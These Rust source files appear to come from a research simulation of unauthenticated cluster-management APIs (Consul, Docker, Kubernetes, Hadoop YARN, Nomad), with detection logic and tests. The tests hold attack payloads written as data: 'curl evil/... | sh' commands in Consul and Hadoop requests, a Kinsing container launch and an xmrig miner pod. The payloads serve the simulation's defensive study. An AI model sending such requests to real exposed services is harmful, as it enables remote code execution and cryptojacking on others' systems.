    fn acl_protected_agent_denies() {
        let v = *release_history(AppId::Nomad).last().unwrap();
        let mut app = Nomad::new(v, AppConfig::secure_for(AppId::Nomad, &v));
        assert!(!app.is_vulnerable());
        assert_eq!(
            DRIVER.get(&mut app, "/v1/jobs").response.status.as_u16(),
            403
        );
        let out = DRIVER.post(&mut app, "/v1/jobs", "{}");
        assert!(out.events.is_empty());
        // The UI shell itself stays reachable (matches real deployments).
        let body = DRIVER.get(&mut app, "/ui/").response.body_text();
        assert!(body.contains("<title>Nomad</title>"));
    }

    #[test]
    fn agent_self_discloses_version_when_open() {
        let mut app = default_latest();
        let body = DRIVER.get(&mut app, "/v1/agent/self").response.body_text();
        assert!(body.contains("\"Version\""));
        assert!(body.contains("\"ACL\":{\"Enabled\":false}"));
    }
}
