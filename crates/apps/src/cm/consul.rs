//! HashiCorp Consul model.
//!
//! * The HTTP API is exposed by default but only becomes a code-execution
//!   MAV when `enable_script_checks` or `enable_remote_script_checks` is
//!   turned on (health checks then run attacker-supplied commands).
//! * Detection: `GET /v1/agent/self` is JSON whose `DebugConfig` has one
//!   of the two script-check options enabled.
//! * The UI includes an HTML comment with the version (voluntary
//!   disclosure used by the fingerprinter).

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Consul {
    pub(crate) base: BaseApp,
    registered_checks: Vec<String>,
}

impl Consul {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Consul {
            base: BaseApp::new(AppId::Consul, version, config),
            registered_checks: Vec::new(),
        }
    }

    fn self_json(&self) -> String {
        let script = self.base.config.script_checks;
        format!(
            "{{\"Config\":{{\"Datacenter\":\"dc1\",\"NodeName\":\"agent-1\",\
             \"Version\":\"{}\"}},\"DebugConfig\":{{\"EnableLocalScriptChecks\":{script},\
             \"EnableScriptChecks\":{script},\"EnableRemoteScriptChecks\":{script},\
             \"Bootstrap\":false}},\"Member\":{{\"Name\":\"agent-1\"}}}}",
            self.base.version.number()
        )
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => Response::redirect("/ui/").into(),
            (nokeys_http::Method::Get, "/ui/") => Response::html(html::page_with_head(
                "Consul by HashiCorp",
                &format!(
                    "<!-- CONSUL_VERSION: {} -->\n{}",
                    self.base.version.number(),
                    html::css("/ui/assets/consul-ui.css")
                ),
                "<div data-consul=\"ui\" id=\"consul-ui\">Loading Consul...</div>",
            ))
            .into(),
            (nokeys_http::Method::Get, "/v1/agent/self") => {
                Response::json(self_json_pretty(&self.self_json())).into()
            }
            (nokeys_http::Method::Put, "/v1/agent/check/register")
            | (nokeys_http::Method::Post, "/v1/agent/check/register") => {
                let body = req.body_text();
                // The Script/Args field only executes when script checks
                // are enabled; otherwise Consul rejects the registration.
                if let Some(script) = extract_script(&body) {
                    if self.base.config.script_checks {
                        self.registered_checks.push(script.to_string());
                        HandleOutcome::with_event(
                            Response::new(StatusCode::OK),
                            AppEvent::CommandExecuted {
                                command: script.to_string(),
                            },
                        )
                    } else {
                        Response::new(StatusCode::BAD_REQUEST)
                            .with_body("Scripts are disabled on this agent; to enable, configure 'enable_script_checks' to true")
                            .into()
                    }
                } else {
                    // Non-script checks register fine but execute nothing.
                    Response::new(StatusCode::OK).into()
                }
            }
            (nokeys_http::Method::Get, "/v1/catalog/services") => {
                Response::json("{\"consul\":[]}").into()
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.registered_checks.clear();
    }
}

impl_webapp!(Consul);

/// Pull the script/args payload out of a check-registration body.
fn extract_script(body: &str) -> Option<&str> {
    for field in ["\"Script\"", "\"Args\"", "\"script\"", "\"args\""] {
        if let Some(start) = body.find(field) {
            let rest = &body[start + field.len()..];
            let open = rest.find('"')? + 1;
            let rest = &rest[open..];
            let close = rest.find('"')?;
            return Some(&rest[..close]);
        }
    }
    None
}

/// Consul pretty-prints `/v1/agent/self`; keep it single-line but valid.
fn self_json_pretty(s: &str) -> String {
    s.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn with_scripts(enabled: bool) -> Consul {
        let v = *release_history(AppId::Consul).last().unwrap();
        let cfg = if enabled {
            AppConfig::vulnerable_for(AppId::Consul, &v)
        } else {
            AppConfig::default_for(AppId::Consul, &v)
        };
        Consul::new(v, cfg)
    }

    #[test]
    fn default_is_exposed_but_not_vulnerable() {
        let mut app = with_scripts(false);
        assert!(!app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/v1/agent/self").response.body_text();
        assert!(body.contains("\"DebugConfig\""));
        assert!(body.contains("\"EnableScriptChecks\":false"));
    }

    #[test]
    fn script_checks_flag_shows_in_debug_config() {
        let mut app = with_scripts(true);
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/v1/agent/self").response.body_text();
        assert!(body.contains("\"EnableScriptChecks\":true"));
        assert!(body.contains("\"EnableRemoteScriptChecks\":true"));
    }

    #[test]
    fn script_check_registration_executes_when_enabled() {
        let mut app = with_scripts(true);
        let req = Request {
            method: nokeys_http::Method::Put,
            target: "/v1/agent/check/register".into(),
            version: Default::default(),
            headers: Default::default(),
            body: bytes::Bytes::from_static(
                br#"{"Name":"health","Script":"curl evil/x.sh | sh","Interval":"10s"}"#,
            ),
        };
        let out = app.handle(&req, Ipv4Addr::new(203, 0, 113, 2));
        assert!(matches!(
            &out.events[0],
            AppEvent::CommandExecuted { command } if command.contains("evil")
        ));
    }

    #[test]
    fn script_check_registration_rejected_when_disabled() {
        let mut app = with_scripts(false);
        let req = Request {
            method: nokeys_http::Method::Put,
            target: "/v1/agent/check/register".into(),
            version: Default::default(),
            headers: Default::default(),
            body: bytes::Bytes::from_static(br#"{"Name":"h","Script":"id"}"#),
        };
        let out = app.handle(&req, Ipv4Addr::new(203, 0, 113, 2));
        assert_eq!(out.response.status.as_u16(), 400);
        assert!(out.events.is_empty());
    }

    #[test]
    fn ui_discloses_version_in_comment() {
        let mut app = with_scripts(false);
        let body = DRIVER.get(&mut app, "/ui/").response.body_text();
        assert!(body.contains("CONSUL_VERSION:"));
        assert!(body.contains("Consul by HashiCorp"));
    }

    #[test]
    fn non_script_checks_are_harmless() {
        let mut app = with_scripts(true);
        let req = Request {
            method: nokeys_http::Method::Put,
            target: "/v1/agent/check/register".into(),
            version: Default::default(),
            headers: Default::default(),
            body: bytes::Bytes::from_static(br#"{"Name":"http-check","HTTP":"http://x/"}"#),
        };
        let out = app.handle(&req, Ipv4Addr::new(203, 0, 113, 2));
        assert!(out.events.is_empty());
        assert_eq!(out.response.status.as_u16(), 200);
    }
}
