//! Docker daemon (exposed TCP socket) model.
//!
//! * An exposed daemon port has no authentication by default — the paper
//!   found 73.6% of Internet-reachable Docker endpoints vulnerable, the
//!   highest rate of all applications.
//! * Detection: `GET /` yields `{"message":"page not found"}`; `GET
//!   /version` (lower-cased) contains `minapiversion` and
//!   `kernelversion`.
//! * Abuse surface: create + start a container (the Kinsing campaign's
//!   entry point).

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Docker {
    pub(crate) base: BaseApp,
    /// Containers created but not yet started: id -> (image, cmd).
    created: Vec<(String, String, String)>,
    next_id: u32,
}

impl Docker {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Docker {
            base: BaseApp::new(AppId::Docker, version, config),
            created: Vec::new(),
            next_id: 1,
        }
    }

    /// TLS client-certificate verification is Docker's auth mechanism for
    /// TCP sockets; with it on, unauthenticated requests fail at once.
    fn open(&self) -> bool {
        !self.base.config.auth_enabled
    }

    fn tls_required() -> Response {
        Response::new(StatusCode::BAD_REQUEST)
            .with_body("Client sent an HTTP request to an HTTPS server.")
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        if !self.open() {
            return Self::tls_required().into();
        }
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => Response::new(StatusCode::NOT_FOUND)
                .with_header("Content-Type", "application/json")
                .with_body(r#"{"message":"page not found"}"#)
                .into(),
            (nokeys_http::Method::Get, "/version") => Response::json(format!(
                "{{\"Version\":\"{}\",\"ApiVersion\":\"1.41\",\"MinAPIVersion\":\"1.12\",\
                 \"GitCommit\":\"abcdef0\",\"GoVersion\":\"go1.16\",\"Os\":\"linux\",\
                 \"Arch\":\"amd64\",\"KernelVersion\":\"5.4.0-72-generic\"}}",
                self.base.version.number()
            ))
            .into(),
            (nokeys_http::Method::Get, "/_ping") => Response::text("OK").into(),
            (nokeys_http::Method::Get, "/containers/json") => Response::json("[]").into(),
            (nokeys_http::Method::Post, "/containers/create") => {
                let body = req.body_text();
                let image = json_str(&body, "Image").unwrap_or("alpine").to_string();
                let cmd = json_str(&body, "Cmd").unwrap_or("").to_string();
                let id = format!("c{:08x}", self.next_id);
                self.next_id += 1;
                self.created.push((id.clone(), image, cmd));
                Response::new(StatusCode::CREATED)
                    .with_header("Content-Type", "application/json")
                    .with_body(format!("{{\"Id\":\"{id}\",\"Warnings\":[]}}"))
                    .into()
            }
            (nokeys_http::Method::Post, p)
                if p.starts_with("/containers/") && p.ends_with("/start") =>
            {
                let id = p
                    .trim_start_matches("/containers/")
                    .trim_end_matches("/start");
                match self.created.iter().position(|(cid, _, _)| cid == id) {
                    Some(idx) => {
                        let (_, image, cmd) = self.created.remove(idx);
                        HandleOutcome::with_event(
                            Response::new(StatusCode::NO_CONTENT),
                            AppEvent::ContainerStarted {
                                image,
                                command: cmd,
                            },
                        )
                    }
                    None => Response::new(StatusCode::NOT_FOUND)
                        .with_header("Content-Type", "application/json")
                        .with_body(r#"{"message":"No such container"}"#)
                        .into(),
                }
            }
            _ => Response::new(StatusCode::NOT_FOUND)
                .with_header("Content-Type", "application/json")
                .with_body(r#"{"message":"page not found"}"#)
                .into(),
        }
    }

    fn reset_state(&mut self) {
        self.created.clear();
        self.next_id = 1;
    }
}

impl_webapp!(Docker);

fn json_str<'a>(body: &'a str, field: &str) -> Option<&'a str> {
    let needle = format!("\"{field}\"");
    let start = body.find(&needle)? + needle.len();
    let rest = &body[start..];
    let open = rest.find('"')? + 1;
    let rest = &rest[open..];
    let close = rest.find('"')?;
    Some(&rest[..close])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn exposed() -> Docker {
        let v = *release_history(AppId::Docker).last().unwrap();
        Docker::new(v, AppConfig::default_for(AppId::Docker, &v))
    }

    #[test]
    fn exposed_daemon_is_vulnerable_by_default() {
        let mut app = exposed();
        assert!(app.is_vulnerable());
        assert_eq!(
            DRIVER.get(&mut app, "/").response.body_text(),
            r#"{"message":"page not found"}"#
        );
        let v = DRIVER
            .get(&mut app, "/version")
            .response
            .body_text()
            .to_lowercase();
        assert!(v.contains("minapiversion"));
        assert!(v.contains("kernelversion"));
    }

    #[test]
    fn create_then_start_runs_the_container() {
        let mut app = exposed();
        let out = DRIVER.post(
            &mut app,
            "/containers/create",
            r#"{"Image":"kinsing/kinsing","Cmd":"/kinsing"}"#,
        );
        let body = out.response.body_text();
        assert!(out.events.is_empty(), "creation alone is not execution");
        let id = body.split('"').nth(3).unwrap().to_string();

        let out = DRIVER.post(&mut app, &format!("/containers/{id}/start"), "");
        assert!(matches!(
            &out.events[0],
            AppEvent::ContainerStarted { image, command }
                if image == "kinsing/kinsing" && command == "/kinsing"
        ));
        assert_eq!(out.response.status.as_u16(), 204);
    }

    #[test]
    fn starting_unknown_container_fails() {
        let mut app = exposed();
        let out = DRIVER.post(&mut app, "/containers/doesnotexist/start", "");
        assert_eq!(out.response.status.as_u16(), 404);
        assert!(out.events.is_empty());
    }

    #[test]
    fn tls_protected_daemon_rejects_everything() {
        let v = *release_history(AppId::Docker).last().unwrap();
        let mut app = Docker::new(v, AppConfig::secure_for(AppId::Docker, &v));
        assert!(!app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/version");
        assert_eq!(out.response.status.as_u16(), 400);
        assert!(!out
            .response
            .body_text()
            .to_lowercase()
            .contains("minapiversion"));
    }

    #[test]
    fn restore_discards_created_containers() {
        let mut app = exposed();
        let _ = DRIVER.post(&mut app, "/containers/create", r#"{"Image":"x","Cmd":"y"}"#);
        app.restore();
        let out = DRIVER.post(&mut app, "/containers/c00000001/start", "");
        assert_eq!(out.response.status.as_u16(), 404);
    }
}
