//! Kubernetes API-server model.
//!
//! * Secure by default (the API is not exposed anonymously), but the
//!   configuration can grant the `system:anonymous` user full access.
//! * Detection: `GET /` lists API groups including `certificates.k8s.io`
//!   and `healthz/ping`; `GET /api/v1/pods` returns JSON whose `items` is
//!   non-empty and contains `"phase":"Running"`.
//! * Abuse surface: creating a pod runs arbitrary containers on the
//!   cluster.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Kubernetes {
    pub(crate) base: BaseApp,
    /// Pods created by attackers on top of the two default system pods.
    extra_pods: Vec<String>,
}

impl Kubernetes {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Kubernetes {
            base: BaseApp::new(AppId::Kubernetes, version, config),
            extra_pods: Vec::new(),
        }
    }

    fn anonymous_allowed(&self) -> bool {
        !self.base.config.auth_enabled
    }

    fn forbidden() -> Response {
        Response::new(StatusCode::FORBIDDEN).with_header("Content-Type", "application/json").with_body(
            r#"{"kind":"Status","apiVersion":"v1","status":"Failure","message":"forbidden: User \"system:anonymous\" cannot get path","reason":"Forbidden","code":403}"#,
        )
    }

    fn paths_json(&self) -> String {
        // Real API servers list dozens of paths; the two markers the
        // plugin needs are `certificates.k8s.io` and `healthz/ping`.
        format!(
            "{{\"paths\":[\"/api\",\"/api/v1\",\"/apis\",\"/apis/apps\",\
             \"/apis/certificates.k8s.io\",\"/healthz\",\"/healthz/ping\",\
             \"/version\",\"/metrics\"],\"minor\":\"{}\"}}",
            self.base.version.minor
        )
    }

    fn pods_json(&self) -> String {
        let mut items = vec![
            r#"{"metadata":{"name":"coredns-558bd4d5db"},"status":{"phase":"Running"}}"#
                .to_string(),
            r#"{"metadata":{"name":"kube-proxy-7xk2m"},"status":{"phase":"Running"}}"#.to_string(),
        ];
        for name in &self.extra_pods {
            items.push(format!(
                "{{\"metadata\":{{\"name\":\"{name}\"}},\"status\":{{\"phase\":\"Running\"}}}}"
            ));
        }
        format!(
            "{{\"kind\":\"PodList\",\"apiVersion\":\"v1\",\"items\":[{}]}}",
            items.join(",")
        )
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        let open = self.anonymous_allowed();
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => {
                if open {
                    Response::json(self.paths_json()).into()
                } else {
                    Self::forbidden().into()
                }
            }
            (nokeys_http::Method::Get, "/version") => {
                // The version endpoint is world-readable on most clusters;
                // the paper's fingerprinter relies on it.
                Response::json(format!(
                    "{{\"major\":\"{}\",\"minor\":\"{}\",\"gitVersion\":\"v{}\"}}",
                    self.base.version.major,
                    self.base.version.minor,
                    self.base.version.number()
                ))
                .into()
            }
            (nokeys_http::Method::Get, "/api/v1/pods") => {
                if open {
                    Response::json(self.pods_json()).into()
                } else {
                    Self::forbidden().into()
                }
            }
            (nokeys_http::Method::Post, p)
                if p.starts_with("/api/v1/namespaces/") && p.ends_with("/pods") =>
            {
                if open {
                    let body = req.body_text();
                    let image = extract_json_field(&body, "image").unwrap_or("unknown");
                    let command = extract_json_field(&body, "command").unwrap_or("");
                    self.extra_pods.push(
                        extract_json_field(&body, "name")
                            .unwrap_or("attacker-pod")
                            .to_string(),
                    );
                    HandleOutcome::with_event(
                        Response::new(StatusCode::CREATED)
                            .with_header("Content-Type", "application/json")
                            .with_body(r#"{"kind":"Pod","apiVersion":"v1"}"#),
                        AppEvent::ContainerStarted {
                            image: image.to_string(),
                            command: command.to_string(),
                        },
                    )
                } else {
                    Self::forbidden().into()
                }
            }
            _ => {
                if open {
                    Response::new(StatusCode::NOT_FOUND)
                        .with_header("Content-Type", "application/json")
                        .with_body(r#"{"kind":"Status","status":"Failure","reason":"NotFound","code":404}"#)
                        .into()
                } else {
                    Self::forbidden().into()
                }
            }
        }
    }

    fn reset_state(&mut self) {
        self.extra_pods.clear();
    }
}

impl_webapp!(Kubernetes);

/// Extract a `"field":"value"` string from a JSON-ish body without a full
/// parser (attacker payloads in the simulation are well-formed enough).
fn extract_json_field<'a>(body: &'a str, field: &str) -> Option<&'a str> {
    let needle = format!("\"{field}\"");
    let start = body.find(&needle)? + needle.len();
    let rest = &body[start..];
    let open = rest.find('"')? + 1;
    let rest = &rest[open..];
    let close = rest.find('"')?;
    Some(&rest[..close])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn open_cluster() -> Kubernetes {
        let v = *release_history(AppId::Kubernetes).last().unwrap();
        Kubernetes::new(v, AppConfig::vulnerable_for(AppId::Kubernetes, &v))
    }

    fn secure_cluster() -> Kubernetes {
        let v = *release_history(AppId::Kubernetes).last().unwrap();
        Kubernetes::new(v, AppConfig::default_for(AppId::Kubernetes, &v))
    }

    #[test]
    fn secure_by_default() {
        let mut app = secure_cluster();
        assert!(!app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/");
        assert_eq!(out.response.status.as_u16(), 403);
        assert!(out.response.body_text().contains("system:anonymous"));
    }

    #[test]
    fn open_cluster_lists_paths_and_pods() {
        let mut app = open_cluster();
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/").response.body_text();
        assert!(body.contains("certificates.k8s.io"));
        assert!(body.contains("healthz/ping"));
        let pods = DRIVER.get(&mut app, "/api/v1/pods").response.body_text();
        let squashed: String = pods.chars().filter(|c| !c.is_whitespace()).collect();
        assert!(squashed.contains("\"phase\":\"Running\""));
        assert!(squashed.contains("\"items\":[{"));
    }

    #[test]
    fn version_endpoint_is_always_readable() {
        let mut app = secure_cluster();
        let body = DRIVER.get(&mut app, "/version").response.body_text();
        assert!(body.contains("gitVersion"));
    }

    #[test]
    fn pod_creation_is_code_execution() {
        let mut app = open_cluster();
        let out = DRIVER.post(
            &mut app,
            "/api/v1/namespaces/default/pods",
            r#"{"metadata":{"name":"miner"},"spec":{"containers":[{"image":"xmrig/xmrig","command":"xmrig -o pool"}]}}"#,
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::ContainerStarted { image, .. } if image == "xmrig/xmrig"
        ));
        // The new pod shows up in listings afterwards.
        let pods = DRIVER.get(&mut app, "/api/v1/pods").response.body_text();
        assert!(pods.contains("miner"));
    }

    #[test]
    fn secure_cluster_rejects_pod_creation() {
        let mut app = secure_cluster();
        let out = DRIVER.post(&mut app, "/api/v1/namespaces/default/pods", "{}");
        assert_eq!(out.response.status.as_u16(), 403);
        assert!(out.events.is_empty());
    }

    #[test]
    fn json_field_extraction() {
        assert_eq!(
            extract_json_field(r#"{"image":"alpine:3"}"#, "image"),
            Some("alpine:3")
        );
        assert_eq!(extract_json_field(r#"{}"#, "image"), None);
    }
}
