//! Apache Hadoop YARN ResourceManager model.
//!
//! * Insecure by default (no Kerberos); the REST API submits applications
//!   that execute arbitrary shell commands. Hadoop was by far the most
//!   attacked honeypot (1,921 of 2,195 attacks).
//! * Detection: `GET /cluster/cluster` (lower-cased) contains 'hadoop',
//!   'resourcemanager' and 'logged in as: dr.who';
//!   `GET /ws/v1/cluster/apps/new-application` returns JSON with an
//!   `application-id`.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Hadoop {
    pub(crate) base: BaseApp,
    next_app_id: u32,
    submitted: Vec<String>,
}

impl Hadoop {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Hadoop {
            base: BaseApp::new(AppId::Hadoop, version, config),
            next_app_id: 1,
            submitted: Vec::new(),
        }
    }

    fn open(&self) -> bool {
        !self.base.config.auth_enabled
    }

    fn kerberos_challenge() -> Response {
        Response::new(StatusCode::UNAUTHORIZED)
            .with_header("WWW-Authenticate", "Negotiate")
            .with_body(
                "Authentication required: Apache Hadoop ResourceManager is \
                 protected by Kerberos (SPNEGO).",
            )
    }

    fn cluster_page(&self) -> Response {
        Response::html(html::page_with_head(
            "About the Cluster - Apache Hadoop",
            &html::css("/static/yarn.css"),
            &format!(
                "<div id=\"header\">Apache Hadoop ResourceManager \
                 <span>Logged in as: dr.who</span></div>\
                 <table><tr><td>ResourceManager version:</td><td>{}</td></tr>\
                 <tr><td>Hadoop version:</td><td>{}</td></tr>\
                 <tr><td>ResourceManager state:</td><td>STARTED</td></tr></table>",
                self.base.version.number(),
                self.base.version.number()
            ),
        ))
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        if !self.open() {
            return Self::kerberos_challenge().into();
        }
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => Response::redirect("/cluster").into(),
            (nokeys_http::Method::Get, "/cluster")
            | (nokeys_http::Method::Get, "/cluster/cluster") => self.cluster_page().into(),
            (nokeys_http::Method::Get, "/ws/v1/cluster/info") => Response::json(format!(
                "{{\"clusterInfo\":{{\"id\":1,\"state\":\"STARTED\",\
                 \"resourceManagerVersion\":\"{}\",\"hadoopVersion\":\"{}\"}}}}",
                self.base.version.number(),
                self.base.version.number()
            ))
            .into(),
            // The paper's plugin *visits* this endpoint (GET); real YARN
            // also accepts POST. Both return a fresh application id.
            (_, "/ws/v1/cluster/apps/new-application") => {
                let id = format!("application_1623000000000_{:04}", self.next_app_id);
                self.next_app_id += 1;
                Response::json(format!(
                    "{{\"application-id\":\"{id}\",\"maximum-resource-capability\":\
                     {{\"memory\":8192,\"vCores\":4}}}}"
                ))
                .into()
            }
            (nokeys_http::Method::Post, "/ws/v1/cluster/apps") => {
                let body = req.body_text();
                let command = extract_command(&body).unwrap_or(&body).to_string();
                self.submitted.push(command.clone());
                HandleOutcome::with_event(
                    Response::new(StatusCode(202))
                        .with_header("Content-Type", "application/json")
                        .with_body("{}"),
                    AppEvent::JobSubmitted { payload: command },
                )
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.next_app_id = 1;
        self.submitted.clear();
    }
}

impl_webapp!(Hadoop);

fn extract_command(body: &str) -> Option<&str> {
    let needle = "\"command\"";
    let start = body.find(needle)? + needle.len();
    let rest = &body[start..];
    let open = rest.find('"')? + 1;
    let rest = &rest[open..];
    let close = rest.find('"')?;
    Some(&rest[..close])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn default_latest() -> Hadoop {
        let v = *release_history(AppId::Hadoop).last().unwrap();
        Hadoop::new(v, AppConfig::default_for(AppId::Hadoop, &v))
    }

    #[test]
    fn insecure_by_default_with_drwho() {
        let mut app = default_latest();
        assert!(app.is_vulnerable());
        let body = DRIVER
            .get(&mut app, "/cluster/cluster")
            .response
            .body_text()
            .to_lowercase();
        assert!(body.contains("hadoop"));
        assert!(body.contains("resourcemanager"));
        assert!(body.contains("logged in as: dr.who"));
    }

    #[test]
    fn new_application_returns_id() {
        let mut app = default_latest();
        let body = DRIVER
            .get(&mut app, "/ws/v1/cluster/apps/new-application")
            .response
            .body_text();
        assert!(body.contains("application-id"));
        // Ids increment per request.
        let body2 = DRIVER
            .get(&mut app, "/ws/v1/cluster/apps/new-application")
            .response
            .body_text();
        assert_ne!(body, body2);
    }

    #[test]
    fn app_submission_is_code_execution() {
        let mut app = default_latest();
        let out = DRIVER.post(
            &mut app,
            "/ws/v1/cluster/apps",
            r#"{"application-id":"application_1","am-container-spec":{"commands":{"command":"curl evil/m.sh | bash"}}}"#,
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::JobSubmitted { payload } if payload.contains("curl evil")
        ));
        assert_eq!(out.response.status.as_u16(), 202);
    }

    #[test]
    fn kerberized_cluster_is_walled() {
        let v = *release_history(AppId::Hadoop).last().unwrap();
        let mut app = Hadoop::new(v, AppConfig::secure_for(AppId::Hadoop, &v));
        assert!(!app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/cluster/cluster");
        assert_eq!(out.response.status.as_u16(), 401);
        let out = DRIVER.post(&mut app, "/ws/v1/cluster/apps", "{}");
        assert!(out.events.is_empty());
    }

    #[test]
    fn yarn_css_marker_for_prefilter() {
        let mut app = default_latest();
        let body = DRIVER
            .get(&mut app, "/cluster/cluster")
            .response
            .body_text();
        assert!(body.contains("/static/yarn.css"));
    }
}
