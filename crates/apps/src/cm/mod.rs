//! Cluster-management systems: Kubernetes, Docker, Consul, Hadoop, Nomad.
//! All five are in scope; all expose HTTP APIs that amount to remote code
//! execution when reachable without authentication.

pub mod consul;
pub mod docker;
pub mod hadoop;
pub mod kubernetes;
pub mod nomad;

pub use consul::Consul;
pub use docker::Docker;
pub use hadoop::Hadoop;
pub use kubernetes::Kubernetes;
pub use nomad::Nomad;
