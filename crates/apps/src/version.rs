//! Version and release-date model for the investigated applications.
//!
//! The paper compares deployed software by *release date* rather than
//! version number (Section 3.3, RQ2 / Figure 1). We model each
//! application's release history as a list of versions with release months.
//! The histories are synthetic but pin the four security-relevant anchors
//! from the paper:
//!
//! * Jenkins 2.0 (April 2016) — random admin password at install,
//! * Jupyter Notebook 4.3 (December 2016) — token auth by default,
//! * Joomla 3.7.4 (July 2017) — remote-DB installation countermeasure,
//! * Adminer 4.6.3 (June 2018) — empty passwords rejected.

use crate::catalog::AppId;
use serde::{Deserialize, Serialize};
use std::fmt;

/// Year + month of a release. Months are enough resolution for the
/// paper's half-year binning.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct ReleaseDate {
    pub year: u16,
    /// 1-12.
    pub month: u8,
}

impl ReleaseDate {
    pub const fn new(year: u16, month: u8) -> Self {
        ReleaseDate { year, month }
    }

    /// Months since January 2000; used for ordering and distance.
    pub fn months_since_2000(self) -> i32 {
        (self.year as i32 - 2000) * 12 + (self.month as i32 - 1)
    }

    /// Months between `self` and a later date (saturating at 0).
    pub fn months_until(self, later: ReleaseDate) -> i32 {
        (later.months_since_2000() - self.months_since_2000()).max(0)
    }
}

impl fmt::Display for ReleaseDate {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:04}-{:02}", self.year, self.month)
    }
}

/// A released version of an application.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Version {
    pub major: u16,
    pub minor: u16,
    pub patch: u16,
    pub released: ReleaseDate,
}

impl Version {
    pub const fn new(major: u16, minor: u16, patch: u16, released: ReleaseDate) -> Self {
        Version {
            major,
            minor,
            patch,
            released,
        }
    }

    /// Version triple as a comparable key (release order also sorts by
    /// this within one application).
    pub fn triple(&self) -> (u16, u16, u16) {
        (self.major, self.minor, self.patch)
    }

    /// `"major.minor.patch"`.
    pub fn number(&self) -> String {
        format!("{}.{}.{}", self.major, self.minor, self.patch)
    }
}

impl fmt::Display for Version {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} ({})", self.number(), self.released)
    }
}

/// Build a synthetic timeline: quarterly releases from `start`, bumping
/// minor each release and major every `releases_per_major`.
fn synthetic_timeline(
    start_major: u16,
    start: ReleaseDate,
    end: ReleaseDate,
    releases_per_major: u16,
) -> Vec<Version> {
    let mut out = Vec::new();
    let mut major = start_major;
    let mut minor = 0;
    let mut date = start;
    while date <= end {
        out.push(Version::new(major, minor, 0, date));
        minor += 1;
        if minor == releases_per_major {
            major += 1;
            minor = 0;
        }
        // Advance one quarter.
        let mut m = date.month as u16 + 3;
        let mut y = date.year;
        if m > 12 {
            m -= 12;
            y += 1;
        }
        date = ReleaseDate::new(y, m as u8);
    }
    out
}

/// End of the study's observation horizon (the scan ran June 2021).
pub const STUDY_HORIZON: ReleaseDate = ReleaseDate::new(2021, 6);

/// The release history for an application, oldest first.
///
/// Histories are deterministic and stable; indices into this list are used
/// as compact version identifiers across the simulation.
pub fn release_history(app: AppId) -> Vec<Version> {
    match app {
        // Jenkins: 1.x era from 2013, 2.0 pinned at 2016-04.
        AppId::Jenkins => {
            let mut v = Vec::new();
            // 1.500 .. 1.650 era, roughly bi-monthly.
            let mut minor = 500;
            let mut date = ReleaseDate::new(2013, 2);
            while date < ReleaseDate::new(2016, 4) {
                v.push(Version::new(1, minor, 0, date));
                minor += 10;
                let mut m = date.month as u16 + 3;
                let mut y = date.year;
                if m > 12 {
                    m -= 12;
                    y += 1;
                }
                date = ReleaseDate::new(y, m as u8);
            }
            v.push(Version::new(2, 0, 0, ReleaseDate::new(2016, 4)));
            let mut rest =
                synthetic_timeline(2, ReleaseDate::new(2016, 7), STUDY_HORIZON, u16::MAX);
            for (i, r) in rest.iter_mut().enumerate() {
                r.minor = 10 * (i as u16 + 1);
            }
